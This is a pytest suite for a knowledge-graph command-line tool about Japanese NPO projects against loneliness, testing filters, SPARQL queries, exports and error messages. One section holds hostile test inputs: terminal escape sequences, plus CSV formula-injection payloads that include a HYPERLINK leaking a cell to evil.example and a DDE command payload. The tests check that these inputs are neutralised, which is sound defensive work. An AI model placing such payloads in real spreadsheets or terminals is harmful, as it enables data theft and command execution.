"""The command line, end to end on the built bundled store (CliRunner, no subprocess)."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from rdflib import Graph

from kg.cli import cli
from kg.errors import KgError

ROOT = Path(__file__).parents[1]
DATA = ROOT / "tests" / "data"


@pytest.fixture(scope="module")
def run(built_store):
    runner = CliRunner()

    def invoke(*args: str, ok: bool = True):
        result = runner.invoke(cli, [*args, "--store", str(built_store)])
        assert (result.exit_code == 0) == ok, result.output
        return result
    return invoke


def test_projects_json_and_csv(run):
    projects = json.loads(run("projects", "--json", "--prefecture", "東京都").output)
    assert [p["number"] for p in projects] == [17, 18, 19, 20, 21, 22, 23]
    rows = list(csv.DictReader(io.StringIO(run("projects", "--csv", "--block", "shikoku").output)))
    assert [r["number"] for r in rows] == ["61", "62", "63", "64", "65", "66"]
    assert rows[1]["region_codes"] == "360007;390003;380008;370002"


@pytest.mark.parametrize("spelling", ["曾於市", "曽於市", "鹿児島県曾於市"])
def test_projects_by_municipality_in_any_spelling(run, spelling):
    """Project 75 writes 曾於市, the official name is 曽於市: the filter folds variant kanji as the parser does."""
    projects = json.loads(run("projects", "--json", "--municipality", spelling).output)
    assert [p["number"] for p in projects] == [75]


def test_projects_text_lists_and_counts(run):
    output = run("projects", "--theme", "men-shed").output
    assert "(3 projects)" in output and "メンズ・シェッド" in output


def test_show_text_and_json(run):
    output = run("show", "cao-kodoku-npo-model-fy2024-075").output
    assert "曽於市 462179" in output           # the list writes 曾於市
    assert "young-carers" in output and "because:" in output
    shown = json.loads(run("show", "cao-kodoku-npo-model-fy2024-075", "--json").output)
    assert shown["number"] == 75 and shown["organization"]["legal_form"] == "npo"


def test_show_unknown_id_is_one_clear_line(run):
    result = run("show", "cao-kodoku-npo-model-fy2024-999", ok=False)
    assert "no project" in result.output and "Traceback" not in result.output


def test_sparql_inline_and_formats(run):
    query = "SELECT (COUNT(?p) AS ?n) WHERE { ?p a schema:Project }"
    assert "77" in run("sparql", query).output
    assert json.loads(run("sparql", query, "--format", "json").output) == [{"n": 77}]
    assert run("sparql", query, "--format", "csv").output.splitlines() == ["n", "77"]
    bad = run("sparql", "SELECT WHERE {", ok=False)
    assert "SPARQL syntax error" in bad.output


@pytest.mark.parametrize("fmt", ["turtle", "jsonld", "nt"])
def test_export_rdf_loads_back(run, built_store, fmt, tmp_path):
    out = tmp_path / f"graph.{fmt}"
    run("export", "--format", fmt, "--out", str(out))
    graph = Graph().parse(out, format={"turtle": "turtle", "jsonld": "json-ld", "nt": "nt"}[fmt])
    from kg import Tsunagari

    assert len(graph) == len(Tsunagari.open(built_store).graph)


@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_export_network_loads_back(run, built_store, fmt, reader, tmp_path):
    out = tmp_path / f"graph.{fmt}"
    run("export", "--format", fmt, "--out", str(out))
    loaded = reader(out)
    from kg import Tsunagari

    network = Tsunagari.open(built_store).network
    assert loaded.number_of_nodes() == network.number_of_nodes()
    assert loaded.number_of_edges() == network.number_of_edges()


def test_export_csv(run):
    rows = list(csv.DictReader(io.StringIO(run("export", "--format", "csv").output)))
    assert len(rows) == 77


def test_validate_and_problems(run):
    assert "conforms" in run("validate").output
    assert "(0 problems)" in run("problems").output or "problems)" in run("problems").output


def test_build_merges_the_bundled_list_with_another(tmp_path):
    from pathlib import Path

    small = Path(__file__).parent / "data" / "small.csv"
    store = tmp_path / "merged"
    result = CliRunner().invoke(cli, ["build", "bundled", str(small), "--store", str(store), "--no-embed",
                                      "--fiscal-year", "2025", "--programme", "test-programme"])
    assert result.exit_code == 0, result.output
    assert "built 81 projects" in result.output and "skipped rows: 0" in result.output


def test_quiet_build_and_both_engines_from_the_cli(tmp_path):
    from pathlib import Path

    small = Path(__file__).parent / "data" / "small.csv"
    store = str(tmp_path / "store")
    runner = CliRunner()
    built = runner.invoke(cli, ["build", "--quiet", str(small), "--store", store, "--no-embed",
                                "--fiscal-year", "2025", "--programme", "test-programme"])
    assert built.exit_code == 0, built.output
    assert "built 4 projects" in built.output and "it/s" not in built.output and "rows/s" not in built.output
    assert "--bulk" not in runner.invoke(cli, ["build", "--help"]).output
    query = "SELECT (COUNT(?p) AS ?n) WHERE { ?p a schema:Project }"
    for engine in ("rdflib", "oxigraph"):
        result = runner.invoke(cli, ["sparql", query, "--engine", engine, "--format", "csv", "--store", store])
        assert result.exit_code == 0, result.output
        assert result.output.splitlines() == ["n", "4"]


# -- hostile data: no formula reaches a spreadsheet, no control character reaches a terminal ---------------------
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")   # written here, not imported
ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\u202e\x9b\x00"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tleading tab", "\rleading return", "＝1+1", "'already quoted"]


@pytest.fixture
def hostile_project(built_store):
    from kg import Tsunagari

    project = copy.deepcopy(Tsunagari.open(built_store).projects()[0])
    project["title"] = "title" + ESCAPES
    project["organization"].update(written="org" + ESCAPES, name="org" + ESCAPES)
    project["region_text"] = "region" + ESCAPES
    project["description"], project["category"] = "about" + ESCAPES, "category" + ESCAPES
    return project


def shown(text: str) -> str:
    """What a command printed, once checked that no control character (but tab and newline) is in it."""
    assert not UNSAFE.search(text), repr(text)
    assert "\\u001b]0;owned\\u0007" in text          # the data is shown, escaped, not dropped
    return text


def test_text_output_never_carries_control_characters(run, hostile_project, monkeypatch):
    from kg import Tsunagari

    result = {"id": hostile_project["id"], "score": 0.5, "title": hostile_project["title"],
              "organization": "org" + ESCAPES, "regions": ["region" + ESCAPES],
              "why": {"embedding": 0.5, "shared_target_groups": [], "shared_themes": [], "related_via_broader": [],
                      "region": "near" + ESCAPES, "same_organization": False}}
    family = {"id": "family-1", "size": 1, "name_en": "en" + ESCAPES, "name_ja": "ja",
              "members": [{"id": hostile_project["id"], "title": hostile_project["title"]}]}
    problem = {"file": "list.csv" + ESCAPES, "row": 3, "column": "取組名", "message": "bad" + ESCAPES,
               "hint": "", "level": "error"}
    monkeypatch.setattr(Tsunagari, "projects", lambda self, **filters: [hostile_project])
    monkeypatch.setattr(Tsunagari, "project", lambda self, project_id: hostile_project)
    monkeypatch.setattr(Tsunagari, "similar", lambda self, project_id, **options: [result])
    monkeypatch.setattr(Tsunagari, "search", lambda self, text, **options: [result])
    monkeypatch.setattr(Tsunagari, "families", lambda self, k=5: [family])
    monkeypatch.setattr(Tsunagari, "problems", property(lambda self: [problem]))
    for command in (["projects"], ["projects", "--csv"], ["show", "x"], ["similar", "x"], ["search", "x"],
                    ["families"], ["problems"]):
        shown(run(*command).output)
    for command in (["projects", "--json"], ["show", "x", "--json"], ["similar", "x", "--json"]):
        parsed = json.loads(shown(run(*command).output))       # still JSON, and the same value
        assert (parsed[0] if isinstance(parsed, list) else parsed)["title"] == "title" + ESCAPES


def test_sparql_output_never_carries_control_characters(run):
    query = 'SELECT ?x WHERE { VALUES ?x { "a\\u001b]0;owned\\u0007\\u202eb" } }'
    shown(run("sparql", query).output)
    shown(run("sparql", query, "--format", "csv").output)
    assert json.loads(shown(run("sparql", query, "--format", "json").output)) == [{"x": "a\x1b]0;owned\x07\u202eb"}]


def test_errors_and_build_validate_lines_never_carry_control_characters(run, built_store, monkeypatch, tmp_path):
    from types import SimpleNamespace

    from kg import Tsunagari
    from kg.errors import KgError, RowError

    def refuse(self, project_id):
        raise KgError("no project " + ESCAPES)
    monkeypatch.setattr(Tsunagari, "project", refuse)
    shown(run("show", "x", ok=False).output)
    monkeypatch.setattr(Tsunagari, "validate", lambda self: SimpleNamespace(conforms=False, text="bad" + ESCAPES))
    shown(run("validate", ok=False).output)
    problem = RowError("list.csv" + ESCAPES, 3, "取組名", "empty title" + ESCAPES)
    report = SimpleNamespace(problems=[problem], projects=1, triples=2, seconds=0.1, generation="g" + ESCAPES,
                             skipped=[problem], warnings=[])
    monkeypatch.setattr(Tsunagari, "build", classmethod(lambda cls, *args, **options: (None, report)))
    built = CliRunner().invoke(cli, ["build", "--no-embed", "--store", str(tmp_path / "s")])
    assert built.exit_code == 0, built.output
    shown(built.output)


def test_export_escapes_only_for_a_terminal(run, monkeypatch):
    import kg.cli.graph
    from kg import Tsunagari

    data = '<http://a> <http://b> "x\x1b]0;owned\x07" .\n'.encode("utf-8")
    monkeypatch.setattr(Tsunagari, "export", lambda self, fmt: data)
    assert run("export", "--format", "nt").stdout_bytes == data             # a file or a pipe: exact bytes
    monkeypatch.setattr(kg.cli.graph, "stdout_is_terminal", lambda: True)
    to_terminal = shown(run("export", "--format", "nt").output)
    assert [str(o) for o in Graph().parse(data=to_terminal, format="nt").objects()] == ["x\x1b]0;owned\x07"]


def test_csv_cells_never_start_a_formula(built_store):
    from kg import Tsunagari
    from kg.export import projects_csv, raw_cell

    project = copy.deepcopy(Tsunagari.open(built_store).projects()[0])
    rows = []
    for formula in FORMULAS:
        row = copy.deepcopy(project)
        row["title"] = row["organization"]["written"] = row["region_text"] = formula
        rows.append(row)
    cells = list(csv.DictReader(io.StringIO(projects_csv(rows), newline="")))
    for formula, written in zip(FORMULAS, cells):
        for column in ("title", "organization", "region_text"):
            assert written[column].startswith("'") and raw_cell(written[column]) == formula
        assert written["fiscal_year"] == str(project["fiscal_year"])            # numbers untouched
    plain = list(csv.DictReader(io.StringIO(projects_csv([project]))))[0]
    assert plain["title"] == project["title"] and raw_cell(plain["title"]) == project["title"]


@pytest.mark.parametrize("command", [["projects", "--csv"], ["export", "--format", "csv"]])
def test_csv_commands_neutralise_formulas(run, built_store, monkeypatch, command):
    from kg import Tsunagari

    project = copy.deepcopy(Tsunagari.open(built_store).projects()[0])
    hostile = []
    for formula in FORMULAS:
        row = copy.deepcopy(project)
        row["title"] = formula
        hostile.append(row)
    monkeypatch.setattr(Tsunagari, "projects", lambda self, **filters: hostile)
    rows = list(csv.DictReader(io.StringIO(run(*command).stdout_bytes.decode("utf-8"))))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in row.values()), row


# -- a newcomer's mistakes: each one a clear line, never a silent empty answer -------------------------

@pytest.mark.parametrize("form", ["npo", "NPO", "NPO法人", "特定非営利活動法人", "Specified nonprofit corporation (NPO)"])
def test_legal_form_by_id_or_name(run, form):
    npo = json.loads(run("projects", "--json", "--legal-form", "npo").output)
    assert npo and json.loads(run("projects", "--json", "--legal-form", form).output) == npo


def test_unknown_legal_form_lists_the_ids(run):
    output = run("projects", "--legal-form", "foo", ok=False).output
    assert "no legal form 'foo'" in output and "general-association" in output


@pytest.mark.parametrize("option, value, expected", [
    ("--prefecture", "Hokaido", "did you mean 北海道?"),
    ("--municipality", "横浜", "did you mean 横浜町, 横浜市?"),
    ("--block", "xx", "kyushu (九州・沖縄)"),
])
def test_unknown_region_suggests_close_names(run, option, value, expected):
    assert expected in run("projects", option, value, ok=False).output


def test_block_by_part_of_its_name(run):
    assert run("projects", "--block", "九州").output == run("projects", "--block", "kyushu").output


def test_json_and_csv_together_is_a_usage_error(built_store):
    result = CliRunner().invoke(cli, ["projects", "--json", "--csv", "--store", str(built_store)])
    assert result.exit_code == 2 and "give one" in result.output


def test_counts_are_singular_for_one(run):
    assert run("projects", "--municipality", "曽於市").output.endswith("(1 project)\n")
    assert run("sparql", "SELECT (COUNT(*) AS ?n) WHERE { ?p a schema:Project }").output.endswith("(1 row)\n")


@pytest.mark.parametrize("given", ["035", "35"])
def test_a_bare_number_suggests_the_project_id(run, given):
    output = run("show", given, ok=False).output
    assert f"no project '{given}' — did you mean cao-kodoku-npo-model-fy2024-035?" in output


def test_unknown_id_without_a_close_one_says_where_ids_are(run):
    assert "listed by `tsunagari projects`" in run("show", "zzz", ok=False).output


def test_export_into_a_missing_folder_is_one_line(run, tmp_path):
    output = run("export", "--format", "csv", "--out", str(tmp_path / "none" / "x.csv"), ok=False).output
    assert f"{tmp_path / 'none'}: no such folder" in output and "Traceback" not in output


@pytest.mark.parametrize("query, expected", [
    ("queries", "a folder — give one query file, e.g."),
    ("queries/projects_per_block.sparql", "no such query file"),
    ("SELEC", "unexpected end of the query after 'SELEC'"),
    ("SELECT * WHERE { ?s foo:Bar ?o }", "unknown prefix foo:"),
])
def test_query_paths_and_syntax_errors(run, query, expected, monkeypatch):
    monkeypatch.chdir(ROOT)
    assert expected in run("sparql", query, ok=False).output


@pytest.mark.parametrize("year", ["25", "99999", "-5", "next year"])
def test_build_refuses_a_fiscal_year_that_is_not_one(tmp_path, year):
    result = CliRunner().invoke(cli, ["build", str(DATA / "small.csv"), "--fiscal-year", year, "--programme", "p",
                                      "--no-embed", "--store", str(tmp_path / "store")])
    assert result.exit_code == 2 and "is not a fiscal year — give it as 2025" in result.output
    assert not (tmp_path / "store").exists()


def test_build_reads_a_fiscal_year_in_any_form(tmp_path):
    from kg import Tsunagari

    for form in ("令和7年度", "R7", "FY2025"):
        result = CliRunner().invoke(cli, ["build", str(DATA / "small.csv"), "--fiscal-year", form, "--no-embed",
                                          "--programme", "p", "--store", str(tmp_path / "store"), "--quiet"])
        assert result.exit_code == 0, result.output
        assert {p["fiscal_year"] for p in Tsunagari.open(tmp_path / "store").projects()} == {2025}
    with pytest.raises(KgError, match="give the year the fiscal year starts in, with four digits"):
        Tsunagari.build([DATA / "small.csv"], tmp_path / "other", embed=False, fiscal_year=25)


def test_a_long_inline_query_is_a_query_not_a_file_name(run):
    """A query of 256-999 characters was given to stat() as a path: 'File name too long'."""
    query = "SELECT (COUNT(*) AS ?n) WHERE { ?p a schema:Project } # " + "長い注釈" * 80
    assert run("sparql", query).output.endswith("77\n(1 row)\n")
